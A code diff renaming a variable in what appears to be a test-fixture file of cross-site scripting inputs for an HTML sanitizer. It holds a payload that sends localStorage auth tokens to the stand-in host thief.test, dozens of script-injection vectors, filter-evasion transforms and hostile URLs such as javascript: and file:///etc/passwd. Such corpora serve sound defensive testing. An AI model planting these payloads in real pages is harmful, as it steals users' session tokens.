@@ -4,25 +4,25 @@
  */
 
 export const thief = "https://thief.test";
-const deed = `window.ran=1;alert(1);fetch('${thief}/'+localStorage.authToken)`;
-const encoded = [...deed].map((character) => `&#${character.charCodeAt(0)};`).join("");
+const payload = `window.ran=1;alert(1);fetch('${thief}/'+localStorage.authToken)`;
+const encoded = [...payload].map((character) => `&#${character.charCodeAt(0)};`).join("");
 
-/** Ways to run the deed. */
+/** Ways to run the payload. */
 const vectors = [
-  `<script>${deed}</script>`,
+  `<script>${payload}</script>`,
   `<script src="${thief}/run.js"></script>`,
-  `<img src="/media/brand/og-card.jpg" onload="${deed}">`,
-  `<svg onload="${deed}"></svg>`,
-  `<svg><script>${deed}</script></svg>`,
-  `<math><mtext><script>${deed}</script></mtext></math>`,
-  `<a href="javascript:${deed}">Press</a>`,
-  `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
-  `<iframe src="javascript:${deed}"></iframe>`,
-  `<p onclick="${deed}">Press</p>`,
-  `<input autofocus onfocus="${deed}">`,
-  `<details open ontoggle="${deed}"><summary>Open</summary></details>`,
-  `<video autoplay onloadstart="${deed}" src="${thief}/a.mp4"></video>`,
-  `<form action="javascript:${deed}"><button>Go</button></form>`,
+  `<img src="/media/brand/og-card.jpg" onload="${payload}">`,
+  `<svg onload="${payload}"></svg>`,
+  `<svg><script>${payload}</script></svg>`,
+  `<math><mtext><script>${payload}</script></mtext></math>`,
+  `<a href="javascript:${payload}">Press</a>`,
+  `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
+  `<iframe src="javascript:${payload}"></iframe>`,
+  `<p onclick="${payload}">Press</p>`,
+  `<input autofocus onfocus="${payload}">`,
+  `<details open ontoggle="${payload}"><summary>Open</summary></details>`,
+  `<video autoplay onloadstart="${payload}" src="${thief}/a.mp4"></video>`,
+  `<form action="javascript:${payload}"><button>Go</button></form>`,
 ];
 
 /** Ways to get past a filter that looks for the vector as it is commonly written. */
@@ -34,7 +34,7 @@ const disguises: readonly ((vector: string) => string)[] = [
     ),
   (vector) => vector.replace(/ (?=\w+=)/g, "/\t\n"),
   (vector) => vector.replace(/>$/, ""),
-  (vector) => vector.replace("javascript:", "java&#10;script&colon;").replace(deed, encoded),
+  (vector) => vector.replace("javascript:", "java&#10;script&colon;").replace(payload, encoded),
   (vector) => `<scr<script></script>ipt>${vector}`,
 ];
 
@@ -128,17 +128,17 @@ export const hostileHtml: readonly string[] = [
 /** Hostile texts for fields that hold plain words. */
 export const hostileText: readonly string[] = [
   ...vectors,
-  `</script><script>${deed}</script>`,
-  `</title><script>${deed}</script>`,
-  `"><script>${deed}</script>`,
-  `' onmouseover='${deed}`,
-  `" style="position:fixed;inset:0" onfocus="${deed}" autofocus="`,
-  `\u2028${deed}//\u2029`,
-  `]]><script>${deed}</script><![CDATA[`,
-  `--><script>${deed}</script><!--`,
-  `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
-  `&lt;script&gt;${deed}&lt;/script&gt;`,
-  `{{constructor.constructor("${deed}")()}} \${${deed}} <%= 1 %>`,
+  `</script><script>${payload}</script>`,
+  `</title><script>${payload}</script>`,
+  `"><script>${payload}</script>`,
+  `' onmouseover='${payload}`,
+  `" style="position:fixed;inset:0" onfocus="${payload}" autofocus="`,
+  `\u2028${payload}//\u2029`,
+  `]]><script>${payload}</script><![CDATA[`,
+  `--><script>${payload}</script><!--`,
+  `\\u003cscript\\u003e${payload}\\u003c/script\\u003e`,
+  `&lt;script&gt;${payload}&lt;/script&gt;`,
+  `{{constructor.constructor("${payload}")()}} \${${payload}} <%= 1 %>`,
   "</body></html><!DOCTYPE html>",
   "<!-- ", // Whatever follows must still be there.
   "\u0001\u000b\u001f\ufffe\uffff",
@@ -149,17 +149,17 @@ export const hostileText: readonly string[] = [
 
 /** Addresses that must not become links. */
 export const hostileAddresses: readonly string[] = [
-  `javascript:${deed}`,
-  `JaVaScRiPt:${deed}`,
-  ` javascript:${deed}`,
-  `java\tscript:${deed}`,
-  `java\nscript:${deed}`,
-  `\u0001javascript:${deed}`,
-  `javascript&colon;${deed}`,
-  `javascript://thief.test/%0a${deed}`,
-  `data:text/html,<script>${deed}</script>`,
+  `javascript:${payload}`,
+  `JaVaScRiPt:${payload}`,
+  ` javascript:${payload}`,
+  `java\tscript:${payload}`,
+  `java\nscript:${payload}`,
+  `\u0001javascript:${payload}`,
+  `javascript&colon;${payload}`,
+  `javascript://thief.test/%0a${payload}`,
+  `data:text/html,<script>${payload}</script>`,
   "data:image/svg+xml,<svg/>",
-  `vbscript:${deed}`,
+  `vbscript:${payload}`,
   "blob:https://thief.test/1",
   "file:///etc/passwd",
   "//thief.test",
